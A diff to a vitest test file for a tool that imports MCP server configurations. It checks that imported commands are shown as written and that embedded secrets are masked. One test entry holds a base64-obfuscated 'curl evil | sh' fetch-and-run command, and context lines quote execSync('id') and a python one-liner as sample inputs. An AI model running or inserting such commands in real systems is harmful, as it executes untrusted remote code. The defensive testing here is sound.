@@ -1,4 +1,4 @@
-import { access, readdir, writeFile } from 'node:fs/promises'
+import { access, chmod, readdir, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
 import { describe, expect, it } from 'vitest'
 import type { UpstreamStatus } from '../src/contracts/index.ts'
@@ -168,6 +168,31 @@ describe('an import that nobody has said yes to', LONG, () => {
     expect(stderr).toContain("execSync('\\''id'\\'')")
     expect(stderr).toContain("python3 -c 'token=1;import os'")
     expect(stderr).toContain('npm_config_registry (! can make it run other code), ENV')
+  })
+
+  it('shows what runs however it looks, and hides secrets beside it', async () => {
+    const { folder, run } = await foreign()
+    const random = '0123456789abcdef0123456789abcdef'
+    const lines = [
+      ['npx', '-y', random, '--api-key', 'hunter1'],
+      ['sh', '-c', 'eval $(echo Y3VybCBldmlsIHwgc2g7IGFhYWFhYWFhYWFh | base64 -d)'],
+      ['tsx', '--auth', '/tmp/evil.ts', '--dsn', 'host=h password=hunter2'],
+      ['uvx', '--from', 'git+https://user:hunter3@host/x', 'run'],
+      ['docker', 'run', '-e', 'API_TOKEN=hunter4(;{', random],
+    ]
+    const servers = Object.fromEntries(lines.map(([command, ...args], i) => [`one${i}`, { command, args }]))
+    await folder.write('here/mcp.json', JSON.stringify({ mcpServers: servers }))
+    // What has its name already is another one.
+    await folder.write('here/work/quartermaster.config.json', '{}')
+    await folder.write('here/work/.quartermaster/secrets.json', '{ "ONE1_ARGUMENT": "other", "ONE0_API_KEY": "other" }')
+    await chmod(folder.path('here/work/.quartermaster/secrets.json'), 0o600)
+    const { stderr } = await run('import', '../mcp.json')
+    expect(stderr).toContain(`Runs: npx -y ${random} --api-key '\${secret:ONE0_API_KEY_2}'\n`)
+    expect(stderr).toContain("Runs: sh -c 'eval $(echo Y3VybCBldmlsIHwgc2g7IGFhYWFhYWFhYWFh | base64 -d)'\n")
+    expect(stderr).toContain("Runs: tsx --auth /tmp/evil.ts --dsn 'host=h password=${secret:ONE2_PASSWORD}'\n")
+    expect(stderr).toContain("Runs: uvx --from 'git+https://${secret:ONE3_LOGIN}@host/x' run\n")
+    expect(stderr).toContain(`Runs: docker run -e 'API_TOKEN=\${secret:API_TOKEN}' ${random}\n`)
+    expect(stderr).not.toContain('hunter')
   })
 
   it('says what stays of an entry that it would replace, and how the gateway view is set here', async () => {
